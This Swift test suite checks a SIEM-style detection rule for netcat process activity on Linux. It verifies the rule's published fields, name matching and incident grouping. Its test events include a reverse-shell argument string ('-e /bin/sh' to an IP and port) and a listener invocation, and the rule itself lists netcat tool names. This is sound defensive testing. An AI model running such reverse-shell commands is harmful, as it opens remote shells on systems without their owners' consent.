import ExecEvents
import RuleEngine
import Testing

/// The shipped rule, loaded from `rules/` and checked against FortiSIEM's published text (netcat.md).
@Suite struct NetcatRuleTests {
    static var rulesDirectory: String {
        // …/Tests/RuleEngineTests/NetcatRuleTests.swift → …/rules
        var parts = "\(#filePath)".split(separator: "/", omittingEmptySubsequences: false)
        parts.removeLast(3)
        return parts.joined(separator: "/") + "/rules"
    }

    static func netcat() throws -> Rule {
        let result = RuleLoader.load(paths: [rulesDirectory])
        #expect(result.errors.isEmpty, "\(result.errors)")
        return try #require(result.rules.first { $0.id == "PH_Rule_TH_Linux_23" })
    }

    @Test func everyFieldMatchesThePublishedRule() throws {
        let r = try Self.netcat()
        #expect(r.location.file == Self.rulesDirectory + "/PH_Rule_TH_Linux_23.xml")
        #expect(r.name == "Linux: Netcat Process Activity")
        #expect(r.isActive)
        #expect(r.severity == 7)
        #expect(r.category == "Security")
        #expect(r.impacts == "Server")
        #expect(r.tactics == ["Execution"])
        #expect(r.techniques == ["T1059.004"])
        #expect(r.incidentType == "PH_RULE_TH_LINUX_23")
        #expect(
            r.description
                == "Netcat Process Activity detected. Netcat is often used as a persistence mechanism by exporting a reverse shell or by serving a shell on a listening port. Netcat is also sometimes used for data exfiltration. Some normal use of this program, while uncommon, may originate from scripts, automation tools, and frameworks. This requires process monitoring via FortiSIEM Linux agent."
        )
        #expect(r.windowSeconds == 300)
        #expect(r.subPatternName == "Filter")
        #expect(
            r.filter.text
                == #"eventType = "LINUX_PROCESS_EXEC" AND procName IN ("nc", "ncat", "netcat", "netcat.openbsd", "netcat.traditional")"#
        )
        #expect(r.groupBy == [.hostName, .user, .procName, .swParam])
        #expect(r.aggregate.description == "COUNT(*) >= 1")
        #expect(
            r.incidentAttributes.map { "\($0.name) = \($0.subPattern).\($0.attribute.name)" } == [
                "hostName = Filter.hostName", "user = Filter.user", "procName = Filter.procName",
                "swParam = Filter.swParam",
            ]
        )
    }

    @Test func matchesEveryNetcatNameInAnyCase() throws {
        let r = try Self.netcat()
        for name in [
            "nc", "ncat", "netcat", "netcat.openbsd", "netcat.traditional", "NC", "Ncat", "NetCat.OpenBSD",
            "NETCAT.TRADITIONAL",
        ] {
            #expect(r.filter.matches(exec(at: 0, proc: name)), "\(name) should match")
        }
        for name in ["nca", "ncx", "/bin/true", "true", "netcat.bsd", "xnc"] {
            #expect(!r.filter.matches(exec(at: 0, proc: name)), "\(name) should not match")
        }
        var other = exec(at: 0, proc: "nc")
        other.eventType = "LINUX_FILE_OPEN"
        #expect(!r.filter.matches(other))
    }

    @Test func sameGroupUpdatesOneIncidentAndADifferentSwParamMakesASecond() throws {
        var e = engine([try Self.netcat()], agentId: "agent-7")
        let args = "-e /bin/sh 10.0.0.1 4444"
        let first = try #require(e.process(exec(at: 1_000, proc: "nc", args: args)).first)
        #expect(first.kind == .created)
        #expect(first.incident.count == 1)
        #expect(first.incident.version == 1)
        #expect(first.incident.attributes.map(\.name) == ["hostName", "user", "procName", "swParam"])
        #expect(first.incident.attribute("swParam") == .string(args))
        #expect(first.incident.agentId == "agent-7")

        let second = try #require(e.process(exec(at: 1_010, ms: 500, proc: "nc", args: args)).first)
        #expect(second.kind == .updated)
        #expect(second.incident.incidentId == first.incident.incidentId)
        #expect(second.incident.count == 2)
        #expect(second.incident.version == 2)
        #expect(second.incident.firstSeen == EventTime(seconds: 1_000))
        #expect(second.incident.lastSeen == EventTime(seconds: 1_010, milliseconds: 500))

        let third = try #require(e.process(exec(at: 2_000, proc: "nc", args: args)).first)  // a later window
        #expect(third.kind == .updated)
        #expect(third.incident.count == 3)
        #expect(third.incident.version == 3)
        #expect(third.incident.lastSeen == EventTime(seconds: 2_000))

        let other = try #require(e.process(exec(at: 2_001, proc: "nc", args: "-l 9999")).first)
        #expect(other.kind == .created)
        #expect(other.incident.incidentId != first.incident.incidentId)
        #expect(e.incidents.count == 2)

        #expect(e.process(exec(at: 2_002, proc: "nca", args: args)).isEmpty)
        #expect(e.process(exec(at: 2_003, proc: "true", args: args)).isEmpty)
    }
}
